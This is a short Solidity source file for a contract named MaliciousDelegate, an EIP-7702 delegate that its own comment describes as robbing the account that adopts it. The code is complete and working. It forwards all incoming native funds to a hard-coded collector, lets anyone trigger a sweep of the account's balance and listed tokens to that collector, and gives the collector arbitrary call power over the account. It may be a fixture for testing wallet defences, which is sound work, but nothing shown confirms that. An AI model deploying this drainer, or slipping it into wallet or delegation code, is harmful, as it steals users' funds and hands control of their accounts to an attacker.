// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Tokens} from "./base/Tokens.sol";

/// @title An EIP-7702 delegate that robs the account that adopts it.
/// @dev Native value that arrives, and on `sweep` (open to anyone) the account's balance and the named tokens, go to
/// the collector; the collector may also have the account make any call. Written into the code as an immutable, the
/// collector is the same in every account's context.
contract MaliciousDelegate {
    address public immutable collector;

    constructor(address collector_) {
        collector = collector_;
    }

    receive() external payable {
        _forward();
    }

    fallback() external payable {
        _forward();
    }

    function sweep(address[] calldata tokens) external {
        for (uint256 i; i < tokens.length; i++) {
            Tokens.push(tokens[i], collector, Tokens.held(tokens[i], address(this)));
        }
        _forward();
    }

    function run(address to, uint256 value, bytes calldata input) external {
        require(msg.sender == collector);
        (bool done,) = to.call{value: value}(input);
        require(done);
    }

    function _forward() private {
        (bool sent,) = collector.call{value: address(this).balance}("");
        require(sent);
    }
}
